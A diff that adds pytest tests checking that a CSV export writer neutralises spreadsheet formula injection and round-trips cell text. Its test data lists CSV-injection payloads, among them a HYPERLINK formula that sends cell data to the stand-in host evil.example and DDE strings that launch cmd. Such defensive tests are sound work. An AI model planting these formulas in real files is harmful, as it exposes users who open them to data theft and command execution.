@@ -227,3 +227,34 @@ def test_same_seed_same_files_and_flag_runs_are_sensitive(tmp_path):
     doc = flagged.generations[GEN]
     assert doc["sensitive"] is True and doc["counts"]["pii_unredacted"] == 1
     assert doc["counts"]["sensitive_conversations"] == doc["counts"]["selected"]
+
+
+# ----------------------------------------------------------------- CSV injection (OWASP)
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1", "'"]
+
+
+@pytest.mark.parametrize("cell", FORMULAS)
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(cell):
+    """Every cell a spreadsheet would take as a formula starts with an apostrophe in the file,
+    and reading the file back gives the original text."""
+    schema = record_schema("alpaca")
+    record = {"instruction": cell, "input": "", "output": f"see {cell}"}
+    data, _ = write([record], "csv", "none", schema)
+    import csv as csv_module
+    rows = list(csv_module.reader(io.StringIO(data.decode("utf-8"), newline="")))
+    for value in rows[1]:
+        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+    assert rows[1][rows[0].index("instruction")] == "'" + cell
+    assert read_records(data, "csv", "none", schema) == [record]
+
+
+@given(st.text(max_size=20, alphabet=st.sampled_from("=+-@'\t\r ab1,\"\n")))
+@settings(max_examples=300, deadline=None)
+def test_csv_cells_round_trip_whatever_they_start_with(cell):
+    schema = record_schema("alpaca")
+    record = {"instruction": cell or "x", "input": "", "output": "y"}
+    data, _ = write([record], "csv", "none", schema)
+    got = read_records(data, "csv", "none", schema)[0]
+    assert got["instruction"] == record["instruction"]
